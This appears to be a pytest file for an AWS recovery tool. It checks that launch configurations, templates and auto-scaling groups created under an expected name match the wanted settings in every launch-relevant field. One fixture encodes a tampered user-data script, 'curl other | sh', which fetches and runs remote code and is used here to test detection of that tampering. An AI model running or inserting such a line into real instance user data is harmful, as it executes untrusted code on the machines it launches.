"""What AWS has under the name of a create that was cut off is that create only if every field is as it was wanted."""

import base64
from typing import Any

import pytest
from snapnames.cli.recovery.compared import differences, marked
from snapnames.rules.resource_types import CONFIGURATION, GROUP, TEMPLATE

DATA = base64.b64encode(b"#!/bin/sh\necho ours\n").decode()
OTHER = base64.b64encode(b"#!/bin/sh\ncurl other | sh\n").decode()

CONFIGURED = {
    "name": "web-0123456",
    "__defaults": ["name"],
    "imageId": "ami-1",
    "instanceType": "t3.micro",
    "keyName": "team",
    "iamInstanceProfile": "web",
    "securityGroups": ["sg-2", "sg-1"],
    "userData": "#!/bin/sh\necho ours\n",
}
CONFIGURATION_THERE = {
    "LaunchConfigurationName": "web-0123456",
    "ImageId": "ami-1",
    "InstanceType": "t3.micro",
    "KeyName": "team",
    "IamInstanceProfile": "web",
    "SecurityGroups": ["sg-1", "sg-2"],
    "UserData": DATA,
    "EbsOptimized": False,
    "InstanceMonitoring": {"Enabled": True},
    "BlockDeviceMappings": [],
    "KernelId": "",
    "RamdiskId": "",
    "ClassicLinkVPCSecurityGroups": [],
}

TEMPLATED = {
    "name": "web-0123456",
    "imageId": "ami-1",
    "instanceType": "t3.micro",
    "iamInstanceProfile": {"name": "web"},
    "vpcSecurityGroupIds": ["sg-1"],
    "userData": DATA,
    "tags": {"snapnames:stack": "ours"},
}
TEMPLATE_THERE = {
    "ImageId": "ami-1",
    "InstanceType": "t3.micro",
    "IamInstanceProfile": {"Name": "web"},
    "SecurityGroupIds": ["sg-1"],
    "UserData": DATA,
}

GROUPED = {
    "name": "web-0123456",
    "launchTemplate": {"id": "lt-1", "version": "3"},
    "minSize": 1,
    "maxSize": 2,
    "vpcZoneIdentifiers": ["subnet-2", "subnet-1"],
    "healthCheckType": "EC2",
    "healthCheckGracePeriod": 300,
    "forceDelete": False,
    "instanceRefresh": {"strategy": "Rolling"},
    "tags": [{"key": "snapnames:stack", "value": "ours", "propagateAtLaunch": False}],
}
GROUP_THERE = {
    "AutoScalingGroupName": "web-0123456",
    "LaunchTemplate": {"LaunchTemplateId": "lt-1", "LaunchTemplateName": "web-0123456", "Version": "3"},
    "MinSize": 1,
    "MaxSize": 2,
    "DesiredCapacity": 1,
    "DefaultCooldown": 300,
    "AvailabilityZones": ["a", "b"],
    "VPCZoneIdentifier": "subnet-1,subnet-2",
    "HealthCheckType": "EC2",
    "HealthCheckGracePeriod": 300,
    "LoadBalancerNames": [],
    "TargetGroupARNs": [],
    "TerminationPolicies": ["Default"],
    "NewInstancesProtectedFromScaleIn": False,
    "Tags": [{"Key": "snapnames:stack", "Value": "ours", "PropagateAtLaunch": False}, {"Key": "cost", "Value": "7"}],
}
KINDS: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    CONFIGURATION: (CONFIGURED, CONFIGURATION_THERE),
    TEMPLATE: (TEMPLATED, TEMPLATE_THERE),
    GROUP: (GROUPED, GROUP_THERE),
}


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_there_as_an_update_wanted_it_differs_in_nothing(kind: str) -> None:
    """Lists in another order, text that AWS gives encoded, and what AWS chose itself are no differences."""
    assert differences(kind, *KINDS[kind]) == []


CHANGES: dict[str, list[dict[str, Any]]] = {
    CONFIGURATION: [
        {"ImageId": "ami-2"},
        {"InstanceType": "x1.32xlarge"},
        {"KeyName": "other"},
        {"IamInstanceProfile": "admin"},
        {"SecurityGroups": ["sg-1", "sg-2", "sg-3"]},
        {"UserData": OTHER},
        {"UserData": None},
        {"AssociatePublicIpAddress": True},
        {"InstanceMonitoring": {"Enabled": False}},
        {"EbsOptimized": True},
        {"SpotPrice": "1"},
        {"PlacementTenancy": "dedicated"},
        {"KernelId": "aki-1"},
        {"RamdiskId": "ari-1"},
        {"BlockDeviceMappings": [{"DeviceName": "/dev/sdf", "Ebs": {"SnapshotId": "snap-1"}}]},
        {"MetadataOptions": {"HttpTokens": "optional"}},
        {"ClassicLinkVPCId": "vpc-1"},
    ],
    TEMPLATE: [
        {"ImageId": "ami-2"},
        {"InstanceType": "x1.32xlarge"},
        {"KeyName": "other"},
        {"IamInstanceProfile": {"Name": "admin"}},
        {"IamInstanceProfile": {"Arn": "arn:aws:iam::1:instance-profile/web"}},
        {"SecurityGroupIds": ["sg-3"]},
        {"UserData": OTHER},
        {"EbsOptimized": True},
        {"NetworkInterfaces": [{"AssociatePublicIpAddress": True}]},
        {"BlockDeviceMappings": [{"DeviceName": "/dev/sdf"}]},
        {"MetadataOptions": {"HttpTokens": "optional"}},
    ],
    GROUP: [
        {"LaunchTemplate": {"LaunchTemplateId": "lt-2", "Version": "3"}},
        {"LaunchTemplate": {"LaunchTemplateId": "lt-1", "Version": "4"}},
        {"LaunchTemplate": None, "LaunchConfigurationName": "other"},
        {"MixedInstancesPolicy": {"LaunchTemplate": {}}},
        {"MinSize": 0},
        {"MaxSize": 100},
        {"VPCZoneIdentifier": "subnet-9"},
        {"HealthCheckType": "ELB"},
        {"TargetGroupARNs": ["arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/other/1"]},
        {"LoadBalancerNames": ["other"]},
        {"TerminationPolicies": ["OldestInstance"]},
        {"NewInstancesProtectedFromScaleIn": True},
        {"CapacityRebalance": True},
        {"PlacementGroup": "other"},
        {"Tags": []},
        {"Tags": [{"Key": "snapnames:stack", "Value": "theirs"}]},
    ],
}


@pytest.mark.parametrize(
    ("kind", "change"),
    [(kind, change) for kind, changes in CHANGES.items() for change in changes],
    ids=str,
)
def test_what_another_principal_made_under_the_name_differs_in_the_field_that_it_chose(
    kind: str, change: dict[str, Any]
) -> None:
    """Each field that says what is launched, also those that the update left out."""
    wanted, there = KINDS[kind]

    found = differences(kind, wanted, {**there, **change})

    # Some names are those of pulumi-aws, which differ in the first letter.
    assert sorted(map(str.lower, found)) == sorted(map(str.lower, change))


@pytest.mark.parametrize(
    ("kind", "more"),
    [
        (CONFIGURATION, {"metadataOptions": {"httpTokens": "required"}}),
        (TEMPLATE, {"networkInterfaces": [{"associatePublicIpAddress": "false"}]}),
        (GROUP, {"mixedInstancesPolicy": {"launchTemplate": {}}}),
    ],
)
def test_an_input_that_cant_be_compared_counts_as_different(kind: str, more: dict[str, Any]) -> None:
    """A program of one's own may give it, and then nothing proves the resource."""
    wanted, there = KINDS[kind]

    assert differences(kind, {**wanted, **more}, there) == list(more)


def test_user_data_that_is_still_encrypted_is_never_the_same() -> None:
    """The state is read again with its secrets decrypted before the comparison."""
    secret = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "ciphertext": "v1:abc"}

    assert differences(CONFIGURATION, {**CONFIGURED, "userData": secret}, CONFIGURATION_THERE) == ["UserData"]


def test_a_public_address_that_the_update_forbade_is_not_left_to_the_subnet() -> None:
    """AWS has no value where none was given, and the subnet decides then."""
    forbidden = {**CONFIGURED, "associatePublicIpAddress": False}

    assert differences(CONFIGURATION, forbidden, CONFIGURATION_THERE) == ["AssociatePublicIpAddress"]
    assert differences(CONFIGURATION, forbidden, {**CONFIGURATION_THERE, "AssociatePublicIpAddress": False}) == []


def test_the_mark_of_a_create_is_read_from_the_tags_of_its_kind() -> None:
    """A group has a list of tags, a template a map, and a launch configuration none."""
    assert [marked(kind, KINDS[kind][0]) for kind in KINDS] == [None, "ours", "ours"]
